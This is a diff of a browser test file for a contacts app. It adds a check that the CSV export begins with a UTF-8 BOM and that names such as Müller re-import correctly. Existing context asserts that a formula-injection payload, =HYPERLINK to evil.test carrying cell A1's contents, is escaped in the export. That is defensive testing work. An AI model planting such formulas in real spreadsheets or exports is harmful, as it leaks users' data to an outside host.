@@ -1,6 +1,6 @@
 // Issue 15 in Chromium: the import page (paste, map the header row, dry-run report, run) and the
 // erase confirmation on the prospect page, with screenshots in test-artifacts/screenshots/; and the
-// prospects' Download CSV with formula-like names (issue 36 item 13).
+// prospects' Download CSV with formula-like names (issue 36 item 13) and a UTF-8 BOM (issue 71).
 import fs from "node:fs";
 import { afterAll, beforeAll, expect, it } from "vitest";
 import { DEMO_CONTACTS } from "../../src/demo/seed-base.ts";
@@ -121,5 +121,33 @@ describeBrowser("browser: prospect data (import mapping, dry run, erase confirma
     // every name cell starts with a quote inside quotes: a spreadsheet shows it, never runs it
     for (const line of lines) expect(line.startsWith(`"'`)).toBe(true);
     expect(lines.some((l) => l.startsWith(`"'=HYPERLINK(""http://evil.test/?d=""&A1) X`))).toBe(true);
+  });
+
+  it("Download CSV starts with a UTF-8 BOM, and the downloaded file reads Müller again on import (issue 71)", async () => {
+    const r = await callApi(h, "bt_demo_revops", "POST", "/api/v1/imports", {
+      csv: "email,first,last\nbomcheck@example.net,Jörg,Müller\n",
+      mapping: { email: "email", first_name: "first", last_name: "last" },
+      legal_basis: "legitimate_interest",
+    });
+    expect(r.counts.created).toBe(1);
+    const page = h.page;
+    await h.signInAs("revops");
+    await page.goto("/contacts");
+    await page.getByLabel("Name or email starts with").fill("bomcheck");
+    await page.getByRole("button", { name: "Search" }).click();
+    await page.getByTestId("contacts").getByText("bomcheck@example.net").waitFor();
+    const [download] = await Promise.all([
+      page.waitForEvent("download"),
+      page.getByTestId("csv-contacts").click(),
+    ]);
+    const bytes = fs.readFileSync((await download.path())!);
+    // EF BB BF: Excel reads the file as UTF-8 and shows Müller, not MÃ¼ller
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const preview = await callApi(h, "bt_demo_revops", "POST", "/api/v1/imports/preview", {
+      csv: bytes.toString("utf8"), // the BOM kept, as a file read on the server keeps it
+    });
+    expect(preview.header[0]).toBe("Prospect");
+    expect(preview.rows).toBe(1);
+    expect(preview.sample[0][0]).toMatch(/^Jörg Müller/);
   });
 });
